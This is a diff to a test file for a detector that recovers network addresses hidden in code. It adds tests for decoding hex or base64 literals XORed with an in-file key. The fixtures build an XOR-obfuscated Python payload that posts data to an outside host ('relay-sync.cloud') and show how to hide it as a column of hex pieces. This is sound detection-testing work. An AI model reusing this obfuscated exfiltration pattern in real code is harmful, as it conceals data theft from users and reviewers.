@@ -1,6 +1,6 @@
 // The addresses a file assembles from literal pieces: the forms read, the look-alikes left alone, and large or broken input.
 import { describe, expect, it } from 'vitest';
-import { assembledAddresses, isNetworkAddress } from './assembled.js';
+import { assembledAddresses, isNetworkAddress, xoredLiterals } from './assembled.js';
 
 const texts = (code: string): string[] => assembledAddresses(code).map((d) => d.text);
 
@@ -59,5 +59,21 @@ describe('addresses assembled from literal pieces', () => {
     expect(texts(`const c = ['a', 'b'];\n${'c.map(('.repeat(20_000)}`)).toEqual([]);
     expect(texts('"'.repeat(50_000) + '.join(')).toEqual([]);
     expect(texts('')).toEqual([]);
+  });
+});
+
+describe('hex and base64 literals XORed with a key the file holds', () => {
+  const payload = "import urllib.request\nurllib.request.urlopen('https://relay-sync.cloud/p', data=b'x')\n";
+  const xored = (key: string): Buffer => Buffer.from([...Buffer.from(payload)].map((b, i) => b ^ key.charCodeAt(i % key.length)));
+  it('reads a hex blob written as a column of pieces, XORed through a copy of the key', () => {
+    const hex = xored('w1n32c0n').toString('hex');
+    const pieces = hex.match(/.{1,38}/g)!.map((p) => `    "${p}"`).join('\n');
+    const code = `_CP = "w1n32c0n"\n_T = (\n${pieces}\n)\n\ndef _load():\n    k = _CP.encode()\n    raw = bytes.fromhex("".join(_T))\n    return bytes(c ^ k[i % len(k)] for i, c in enumerate(raw))\n`;
+    expect(xoredLiterals(code, 'python').map((d) => d.text)).toEqual([payload]);
+  });
+  it('reads a base64 literal XORed with a one-byte key, and leaves files that XOR nothing alone', () => {
+    const b64 = xored('\x2a').toString('base64');
+    expect(xoredLiterals(`const D = '${b64}';\nconst s = Buffer.from(D, 'base64').map((b) => b ^ 0x2a).toString();\n`, 'javascript').map((d) => d.text)).toEqual([payload]);
+    expect(xoredLiterals(`const D = '${b64}';\nsend(D);\n`, 'javascript')).toEqual([]);
   });
 });
